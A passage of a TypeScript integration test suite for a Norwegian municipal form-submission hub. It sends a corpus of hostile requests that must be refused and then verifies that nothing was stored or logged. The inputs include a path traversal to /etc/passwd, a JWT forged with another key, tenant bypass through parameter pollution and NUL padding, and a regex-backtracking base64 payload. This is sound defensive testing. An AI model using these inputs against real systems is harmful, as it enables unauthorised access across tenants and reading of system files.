      return post(ttKort(), { authorization: `Bearer ${header}.${b64url(claims)}.${signature}` });
    },
  },
  // ---- tenants ----
  {
    name: 'a valid provider token for another municipality (TT-kort for Levanger)',
    status: 403,
    path: '/municipality',
    send: () => post(ttKort((b) => (b.municipality = '5037'))),
  },
  {
    name: 'the intranet’s token for a public form',
    status: 403,
    path: '/municipality',
    send: () => post(ttKort(), { provider: 'halden-intranett' }),
  },
  {
    name: 'the public form engine’s token for the intranet’s A-skjema',
    status: 403,
    send: async () => {
      const body = (await sample('a-skjema-tilsetting')) as any;
      return post({ ...body, submissionId: id() });
    },
  },
  {
    // The providers' routes trust Maskinporten only, as their API Gateway authorizer does: staff tokens are no tokens there.
    name: 'an admin token posting a submission',
    status: 401,
    send: async () => post(ttKort(), { authorization: `Bearer ${await token({ admin: ['3101'] })}` }),
  },
  {
    name: 'a Maskinporten token for an organisation no provider is',
    status: 403,
    send: async () =>
      post(ttKort(), { authorization: `Bearer ${await grant(hub, 'ukjent-virksomhet', 'halden:skjemaflyt')}` }),
  },
  {
    name: 'an unknown form type',
    status: 400,
    path: '/formType',
    send: () => post(ttKort((b) => (b.formType = 'soknad-om-hundeluftetillatelse'))),
  },
  // ---- a Halden admin reaching for Levanger through the municipality parameter (held in the pentest: keep it so) ----
  {
    name: 'a Halden admin listing Levanger’s failures, municipality repeated (a Levanger one after Halden’s)',
    status: 403,
    path: '/municipality',
    send: () => admin('GET', '/v1/admin/deliveries?municipality=3101&municipality=5037&status=FAILED'),
  },
  {
    name: 'a Halden admin asking for Levanger’s overview, municipality repeated (a Levanger one after Halden’s)',
    status: 403,
    path: '/municipality',
    send: () => admin('GET', '/v1/admin/overview?municipality=3101&municipality=5037'),
  },
  {
    name: 'a Halden admin listing Levanger’s failures, municipality repeated (Halden’s after a Levanger one)',
    status: 403,
    path: '/municipality',
    send: () => admin('GET', '/v1/admin/deliveries?municipality=5037&municipality=3101&status=FAILED'),
  },
  {
    name: 'a Halden admin asking for Levanger’s overview, municipality repeated (Halden’s after a Levanger one)',
    status: 403,
    path: '/municipality',
    send: () => admin('GET', '/v1/admin/overview?municipality=5037&municipality=3101'),
  },
  {
    name: 'a Halden admin listing Levanger’s failures, municipality comma-joined',
    status: 403,
    path: '/municipality',
    send: () => admin('GET', '/v1/admin/deliveries?municipality=3101%2C5037&status=FAILED'),
  },
  {
    name: 'a Halden admin asking for Levanger’s overview, municipality comma-joined',
    status: 403,
    path: '/municipality',
    send: () => admin('GET', '/v1/admin/overview?municipality=3101%2C5037'),
  },
  {
    name: 'a Halden admin listing Levanger’s failures, municipality space-padded',
    status: 403,
    path: '/municipality',
    send: () => admin('GET', '/v1/admin/deliveries?municipality=%205037&status=FAILED'),
  },
  {
    name: 'a Halden admin asking for Levanger’s overview, municipality space-padded',
    status: 403,
    path: '/municipality',
    send: () => admin('GET', '/v1/admin/overview?municipality=%205037'),
  },
  {
    name: 'a Halden admin listing Levanger’s failures, municipality NUL-padded',
    status: 403,
    path: '/municipality',
    send: () => admin('GET', '/v1/admin/deliveries?municipality=5037%00&status=FAILED'),
  },
  {
    name: 'a Halden admin asking for Levanger’s overview, municipality NUL-padded',
    status: 403,
    path: '/municipality',
    send: () => admin('GET', '/v1/admin/overview?municipality=5037%00'),
  },
  {
    name: 'a Halden admin retrying all of Levanger’s failures',
    status: 403,
    path: '/municipality',
    send: () => admin('POST', '/v1/admin/deliveries/retry', JSON.stringify({ municipality: '5037' })),
  },
  {
    name: 'a Halden admin retrying all failures of "3101,5037"',
    status: 403,
    path: '/municipality',
    send: () => admin('POST', '/v1/admin/deliveries/retry', JSON.stringify({ municipality: '3101,5037' })),
  },
  // ---- admin parameters that cannot be valid: refused before DynamoDB sees them (most were 500s and a server-error
  // alarm; the malformed filters and the oversized cursor were answered as an empty list) ----
  {
    name: 'an admin search for "#" only (empty after normalising: DynamoDB refuses an empty prefix)',
    status: 400,
    path: '/q',
    send: () => admin('GET', '/v1/admin/deliveries?municipality=3101&q=%23'),
  },
  {
    name: 'an admin search for "# # #"',
    status: 400,
    path: '/q',
    send: () => admin('GET', '/v1/admin/deliveries?municipality=3101&q=%23%20%23%20%23'),
  },
  {
    name: 'a delivery id of 1,100 characters (over DynamoDB’s key size)',
    status: 400,
    path: '/id',
    send: () => admin('GET', `/v1/admin/deliveries/${'a'.repeat(1100)}`),
  },
  {
    name: 'a delivery id with a well-formed trackingId and a 3,000-character target',
    status: 400,
    path: '/id',
    send: () => admin('GET', `/v1/admin/deliveries/${HOSTILE_UUID}.${'t'.repeat(3000)}`),
  },
  {
    name: 'retrying a delivery id of 1,100 characters',
    status: 400,
    path: '/id',
    send: () => admin('POST', `/v1/admin/deliveries/${'a'.repeat(1100)}/retry`),
  },
  {
    name: 'resolving a delivery id of 1,100 characters',
    status: 400,
    path: '/id',
    send: () =>
      admin('POST', `/v1/admin/deliveries/${'a'.repeat(1100)}/resolve`, JSON.stringify({ comment: 'hostile-' })),
  },
  {
    name: 'showing the fødselsnummer of a delivery id of 1,100 characters',
    status: 400,
    path: '/id',
    send: () => admin('POST', `/v1/admin/deliveries/${'a'.repeat(1100)}/national-id`),
  },
  {
    name: 'a date range the wrong way round (DynamoDB refuses BETWEEN with the bounds reversed)',
    status: 400,
    path: '/to',
    send: () => admin('GET', '/v1/admin/deliveries?municipality=3101&from=2026-12-01&to=2026-11-01'),
  },
  {
    name: 'a time beyond year 9999 (+275760-…), which sorts before every stored time',
    status: 400,
    path: '/to',
    send: () => admin('GET', '/v1/admin/deliveries?municipality=3101&to=%2B275760-09-13T00:00:00Z'),
  },
  {
    name: 'a reversed range in a bulk retry',
    status: 400,
    path: '/to',
    send: () =>
      admin(
        'POST',
        '/v1/admin/deliveries/retry',
        JSON.stringify({ municipality: '3101', from: '2026-12-01', to: '2026-11-01' }),
      ),
  },
  {
    name: 'a target filter of 5,000 characters',
    status: 400,
    path: '/target',
    send: () => admin('GET', `/v1/admin/deliveries?municipality=3101&target=${'t'.repeat(5000)}`),
  },
  {
    name: 'a form type filter with a quote and a NUL',
    status: 400,
    path: '/formType',
    send: () => admin('GET', "/v1/admin/deliveries?municipality=3101&formType=tt-kort'%00"),
  },
  {
    name: 'a page cursor with empty key values (DynamoDB refuses an empty key)',
    status: 400,
    path: '/cursor',
    send: () => admin('GET', `/v1/admin/deliveries?municipality=3101&cursor=${cursor({ pk: '', sk: '', gsi1sk: '' })}`),
  },
  {
    name: 'a page cursor with a 3,000-character key',
    status: 400,
    path: '/cursor',
    send: () =>
      admin(
        'GET',
        `/v1/admin/deliveries?municipality=3101&cursor=${cursor({
          pk: `SUB#${'a'.repeat(3000)}`,
          sk: 'DELIVERY#halden-arkiv',
          gsi1sk: `2026-11-24T10:15:00.000Z#${HOSTILE_UUID}.halden-arkiv`,
        })}`,
      ),
  },
  {
    name: 'a bulk-retry cursor whose time is beyond year 9999',
    status: 400,
    path: '/cursor',
    send: () =>
      admin(
        'POST',
        '/v1/admin/deliveries/retry',
        JSON.stringify({
          municipality: '3101',
          cursor: Buffer.from(JSON.stringify({ u: '+275760-09-13T00:00:00.000Z' })).toString('base64url'),
        }),
      ),
  },
  {
    name: 'a provider reading a trackingId of 1,100 characters (404, as any unknown one)',
    status: 404,
    send: () => send({ method: 'GET', path: `/v1/submissions/${'a'.repeat(1100)}` }),
  },
];

describe('the hostile corpus', () => {
  it('has at least 60 requests', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(60);
  });

  it('a valid TT-kort and a valid JSON submission go through first (the controls)', async () => {
    const first = await post({ ...tt, submissionId: 'control-1' });
    expect(first.status).toBe(202);
    const second = await post(
      {
        submissionId: 'control-2',
        formType: 'melding-json',
        municipality: '3105',
        submittedAt: '2026-11-24T10:15:00+01:00',
        submitter: { name: 'Kari Nordmann' },
        formData: { contentType: 'application/json', content: '{"melding":{"tekst":"Gatelyset er mørkt"}}' },
      },
      { provider: 'json-skjema' },
    );
    expect(second.status).toBe(202);
    controls.push(first.body.trackingId, second.body.trackingId);
    await waitForStatus(first.body.trackingId, 'eskjema', 'DELIVERED');
    await waitForStatus(second.body.trackingId, 'json-skjema', 'DELIVERED');
  });

  it.each(corpus.map((c) => [c.name, c] as const))('%s: refused with a 4xx problem+json', async (_, hostile) => {
    const answer = await hostile.send();
    expect(answer.status, answer.text.slice(0, 500)).toBe(hostile.status);
    expect(answer.contentType).toMatch(/^application\/problem\+json/);
    expect(answer.nosniff, 'X-Content-Type-Options: nosniff').toBe(true);
    expect(answer.body).toMatchObject({ status: hostile.status, title: expect.any(String) });
    expect(Array.isArray(answer.body.errors)).toBe(true);
    if (hostile.path) expect(answer.body.errors.map((e: { path: string }) => e.path)).toContain(hostile.path);
    // Fields are named, values never: not the hostile name or fødselsnummer, not the samples'.
    for (const value of [...NEVER_LOGGED, '15067700021', '41018000048', '959159093', '12035440096']) {
      expect(answer.text).not.toContain(value);
    }
  });

  it('a bulk retry from a time after it started finds nothing to retry (the range is empty, not an error)', async () => {
    const answer = await admin(
      'POST',
      '/v1/admin/deliveries/retry',
      JSON.stringify({ municipality: '3101', from: '2999-01-01' }),
    );
    expect(answer.status, answer.text.slice(0, 300)).toBe(200);
    expect(answer.body).toMatchObject({ retried: 0, ids: [], done: true });
  });

  it('another provider cannot read a submission: 404, as if it did not exist; staff tokens are refused there', async () => {
    const [control] = controls;
    const read = async (authorization: string) =>
      send({ method: 'GET', path: `/v1/submissions/${control}`, authorization });
    const otherProvider = await read(`Bearer ${await token({ provider: 'halden-intranett' })}`);
    expect(otherProvider.status).toBe(404);
    expect(otherProvider.contentType).toMatch(/^application\/problem\+json/);
    expect((await read(`Bearer ${await token({ provider: 'json-skjema' })}`)).status).toBe(404);
    expect((await read(`Bearer ${await token({ provider: 'eskjema' })}`)).status).toBe(200);
    // The route trusts Maskinporten only (as its authorizer on AWS): staff see submissions through the admin API.
    for (const municipalities of [['5037'], ['3101']]) {
      const asStaff = await read(`Bearer ${await token({ admin: municipalities })}`);
      expect(asStaff.status).toBe(401);
      expect(asStaff.contentType).toMatch(/^application\/problem\+json/);
    }
    const traversal = await send({ method: 'GET', path: '/v1/submissions/..%2F..%2Fetc%2Fpasswd' });
    expect(traversal.status).toBe(404);
  });

  it('the hub is still up and still takes a valid submission', async () => {
    expect((await fetch(`${hub.url}/health`)).status).toBe(200);
    const after = await post({ ...tt, submissionId: 'control-3' });
    expect(after.status).toBe(202);
    controls.push(after.body.trackingId);
    await waitForStatus(after.body.trackingId, 'eskjema', 'DELIVERED');
  });

  it('the backtracking attack on base64 gets a 400 that says where the base64 goes wrong', async () => {
    const answer = await post(withAttachment({ contentBase64: `A${'\r\n'.repeat(100_000)}!` }));
    expect(answer.status).toBe(400);
    expect(answer.body.errors).toEqual([
      {
        path: '/attachments/1/contentBase64',
        code: 'invalid-base64',
        message: 'Innholdet er ikke gyldig base64 (tegn nr. 200002 hører ikke hjemme der).',
      },
    ]);
  });

  it('JSON answers say nosniff: a receipt, a status, /health, a route that does not exist', async () => {
    const receipt = await post({ ...tt, submissionId: 'control-1' });
    expect(receipt.status).toBe(200);
    expect(receipt.nosniff).toBe(true);
    const status = await send({ method: 'GET', path: `/v1/submissions/${controls[0]}` });
    expect(status.status).toBe(200);
    expect(status.nosniff).toBe(true);
    const health = await fetch(`${hub.url}/health`);
    expect(health.headers.get('x-content-type-options')).toBe('nosniff');
    expect((await send({ method: 'GET', path: '/v1/nothing-here' })).nosniff).toBe(true);
  });

  it('duplicate and awkward filenames arrive in the archive safe and distinct', async () => {
    const body = structuredClone(tt) as any;
    const [main, attachment] = body.attachments;
    body.submissionId = 'control-4';
    body.attachments = [
      main,
      { ...attachment, filename: 'Merknad-a\u030A.pdf' },
      { ...attachment, filename: 'merknad-å.pdf' },
      { ...attachment, filename: 'Vedtak: "kopi"?.pdf' },
      { ...attachment, filename: 'arkivmelding.xml', contentType: 'application/pdf' },
    ];
    const answer = await post(body);
    expect(answer.status).toBe(202);
    controls.push(answer.body.trackingId);
    await waitForStatus(answer.body.trackingId, 'eskjema', 'DELIVERED');
    const files = await readdir(join(hub.archiveDir, '3101', answer.body.trackingId));
    // The archive gets plain ASCII names (the mapping's file naming, shared/mapping): distinct, and none of
    // them can overwrite the arkivmelding or leave the folder.
    const documents = ['Merknad-aa.pdf', 'merknad-aa-2.pdf', 'Vedtak_-_kopi__.pdf', 'arkivmelding.xml.pdf'];
    expect(files).toEqual(expect.arrayContaining([...documents, 'arkivmelding.xml']));
    const arkivmelding = await readFile(
      join(hub.archiveDir, '3101', answer.body.trackingId, 'arkivmelding.xml'),
      'utf8',
    );
    for (const name of documents)
      expect(arkivmelding).toContain(`<referanseDokumentfil>${name}</referanseDokumentfil>`);
  });

  it('afterwards the table holds only the controls', async () => {
    const { Items = [] } = await hub.clients.dynamodb.send(new ScanCommand({ TableName: hub.resources.tableName }));
    expect(JSON.stringify(Items)).not.toContain(MARKER);
    const tracked = new Set(Items.map((i) => i.trackingId?.S).filter(Boolean));
    expect([...tracked].sort()).toEqual([...controls].sort());
  });

  it('afterwards the bucket holds only the controls’ originals and documents', async () => {
    const { Contents = [] } = await hub.clients.s3.send(new ListObjectsV2Command({ Bucket: hub.resources.bucketName }));
    expect(Contents.length).toBeGreaterThan(0);
    for (const object of Contents) {
      expect(
        controls.some((c) => object.Key?.startsWith(`submissions/${c}/`)),
        object.Key,
      ).toBe(true);
    }
  });

  it('afterwards every queue and dead-letter queue is empty', async () => {
    const urls = [...Object.values(hub.resources.queueUrls), ...Object.values(hub.resources.deadLetterQueueUrls)];
    const depth = async (url: string) => {
      const { Attributes = {} } = await hub.clients.sqs.send(
        new GetQueueAttributesCommand({
          QueueUrl: url,
          AttributeNames: ['ApproximateNumberOfMessages', 'ApproximateNumberOfMessagesNotVisible'],
        }),
      );
      return Number(Attributes.ApproximateNumberOfMessages) + Number(Attributes.ApproximateNumberOfMessagesNotVisible);
    };
    // The controls' messages are deleted right after their delivery was recorded: wait for that, not a time.
    let depths: number[] = [];
    for (let i = 0; i < 100; i++) {
      depths = await Promise.all(urls.map(depth));
      if (depths.every((d) => d === 0)) break;
      await new Promise((r) => setTimeout(r, 100));
    }
    expect(depths).toEqual(urls.map(() => 0));
  });

  it('afterwards no file in the data dir holds a byte of any hostile request', async () => {
    const marker = Buffer.from(MARKER);
    const files = await readdir(hub.dataDir, { recursive: true, withFileTypes: true });
    const checked: string[] = [];
    for (const file of files.filter((f) => f.isFile())) {
      const path = join(file.parentPath, file.name);
      const bytes = await readFile(path).catch(() => Buffer.alloc(0));
      expect(bytes.includes(marker), path).toBe(false);
      checked.push(path);
    }
    expect(checked.some((p) => p.includes('dynamodb'))).toBe(true);
    expect(checked.some((p) => p.includes('arkivmelding.xml'))).toBe(true);
  });

  it('no log line holds a fødselsnummer or a name, from the corpus or the controls', () => {
    const log = captured.join('\n');
    expect(log).toContain('Delivered');
    for (const value of NEVER_LOGGED) expect(log).not.toContain(value);
  });
});

describe('throttling per provider in the local runner', () => {
  it('answers 429 once a provider has used its share, and only that provider', async () => {
    const read = () => send({ method: 'GET', path: '/v1/submissions/x', provider: 'treg-leverandor' });
    // The Moss deployment allows its provider three requests and then (almost) nothing more.
    expect((await read()).status).toBe(404);
    expect((await read()).status).toBe(404);
    expect((await read()).status).toBe(404);
    const limited = await read();
    expect(limited.status).toBe(429);
    expect(limited.contentType).toMatch(/^application\/problem\+json/);
    expect((await send({ method: 'GET', path: '/v1/submissions/x' })).status).toBe(404);
  });
});

describe('retention', () => {
  const deps = (days: number) => ({
    registry: buildRegistry(hub.config),
    store: new SubmissionStore(DynamoDBDocumentClient.from(hub.clients.dynamodb), hub.resources.tableName),
    s3: hub.clients.s3,
    bucket: hub.resources.bucketName,
    now: () => new Date(Date.now() + days * 24 * 3600 * 1000),
  });
  const objects = async () =>
    (await hub.clients.s3.send(new ListObjectsV2Command({ Bucket: hub.resources.bucketName }))).Contents ?? [];

  it('keeps originals and documents until the retention has passed', async () => {
    expect(await hub.runRetention()).toMatchObject({ deleted: 0 });
    const report = await runRetention(deps(29));
    expect(report).toMatchObject({ examined: controls.length, deleted: [], complete: true });
    expect((await objects()).length).toBeGreaterThan(0);
    // A run whose time is up takes nothing more (and says so), even past the retention: the next run goes on.
    const late = await runRetention({ ...deps(31), deadline: Date.now() - 1 });
    expect(late).toMatchObject({ examined: 0, deleted: [], complete: false });
    expect((await objects()).length).toBeGreaterThan(0);
  });

  it('deletes them once the archive has confirmed and 30 days have passed; the status stays', async () => {
    const report = await runRetention({ ...deps(31), concurrency: 3 });
    expect(report.deleted.sort()).toEqual([...controls].sort());
    expect(report.complete).toBe(true);
    expect(await objects()).toEqual([]);
    const status = await send({ method: 'GET', path: `/v1/submissions/${controls[0]}` });
    expect(status.status).toBe(200);
    expect(status.body.status).toBe('DELIVERED');
    // Each delivery carries a note of the deletion for staff (the console's history shows it).
    const { store } = deps(0);
    const found = await store.get(controls[0] as string);
    expect(found?.deliveries.length).toBeGreaterThan(0);
    for (const d of found?.deliveries ?? []) {
      expect(d.audit).toEqual([
        expect.objectContaining({ action: 'documents-deleted', by: 'Skjemaflyt (oppbevaringsregelen)' }),
      ]);
    }
    // A second run finds nothing left to delete and notes nothing again.
    expect((await runRetention(deps(32))).deleted).toEqual([]);
    expect((await store.get(controls[0] as string))?.deliveries[0]?.audit).toHaveLength(1);
  });
});

describe('Maskinporten tokens that name no provider: 401/403, and nothing stored', () => {
  const cases: HostileCase[] = [
    {
      name: 'a token for another consumer organisation (one no provider is)',
      status: 403,
      send: async () =>
        post(ttKort(), { authorization: `Bearer ${await grant(hub, 'ukjent-virksomhet', 'halden:skjemaflyt')}` }),
    },
    {
      name: 'a token from a vendor Halden has not accepted, acting for Halden',
      status: 403,
      send: async () =>
        post(ttKort(), {
          authorization: `Bearer ${await grant(hub, 'annen-leverandor', 'halden:skjemaflyt', '959159092')}`,
        }),
    },
    {
      name: 'the accepted vendor’s token for Halden without Skjemaflyt’s scope',
      status: 403,
      send: async () =>
        post(ttKort(), {
          authorization: `Bearer ${await grant(hub, 'eskjema-310123455', 'halden:annet-api', '959159092')}`,
        }),
    },
    {
      name: 'a token asked for without the API as resource (no audience)',
      status: 401,
      send: async () =>
        post(ttKort(), {
          authorization: `Bearer ${await grant(hub, 'eskjema-310123455', 'halden:skjemaflyt', '959159092', null)}`,
        }),
    },
    {
      name: 'an expired Maskinporten token',
      status: 401,
      send: async () =>
        post(ttKort(), { authorization: `Bearer ${await jwt((j) => j.setExpirationTime(now() - 60))}` }),
    },
    {
      name: 'a Maskinporten-shaped token signed by another key',
      status: 401,
      send: async () => {
        const { generateKeyPair } = await import('jose');
        const other = await generateKeyPair('RS256');
        const forged = await new SignJWT(providerClaims)
          .setProtectedHeader({ alg: 'RS256', kid: keys.publicJwk.kid ?? '' })
          .setIssuer(settings.issuer)
          .setAudience(settings.audience)
          .setExpirationTime('5m')
          .sign(other.privateKey);
        return post(ttKort(), { authorization: `Bearer ${forged}` });
      },
    },
  ];

  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_, hostile) => {
    const answer = await hostile.send();
    expect(answer.status, answer.text.slice(0, 500)).toBe(hostile.status);
    expect(answer.contentType).toMatch(/^application\/problem\+json/);
    expect(answer.body).toMatchObject({ status: hostile.status, title: expect.any(String) });
    // The organisation is named when it is the reason; the token never is.
    if (hostile.status === 403) expect(answer.body.detail).toMatch(/\d{9}|scope/);
    expect(answer.text).not.toMatch(/eyJ[\w-]{10,}/);
  });

  it('named the organisation that was not recognised', async () => {
    const stranger = await post(ttKort(), {
      authorization: `Bearer ${await grant(hub, 'ukjent-virksomhet', 'halden:skjemaflyt')}`,
    });
    expect(stranger.body.detail).toContain('987654325');
    const vendor = await post(ttKort(), {
      authorization: `Bearer ${await grant(hub, 'annen-leverandor', 'halden:skjemaflyt', '959159092')}`,
    });
    expect(vendor.body.detail).toContain('923456783');
    expect(vendor.body.detail).toContain('959159092');
  });

  it('stored nothing of them: no item, no object, no message', async () => {
    const { Items = [] } = await hub.clients.dynamodb.send(new ScanCommand({ TableName: hub.resources.tableName }));
    expect(JSON.stringify(Items)).not.toContain(MARKER);
    const { Contents = [] } = await hub.clients.s3.send(new ListObjectsV2Command({ Bucket: hub.resources.bucketName }));
    for (const object of Contents)
      expect(
        controls.some((c) => object.Key?.includes(c)),
        object.Key,
      ).toBe(true);
    for (const url of Object.values(hub.resources.queueUrls)) {
      const { Attributes = {} } = await hub.clients.sqs.send(
        new GetQueueAttributesCommand({ QueueUrl: url, AttributeNames: ['ApproximateNumberOfMessages'] }),
      );
      expect(Number(Attributes.ApproximateNumberOfMessages), url).toBe(0);
    }
  });
});
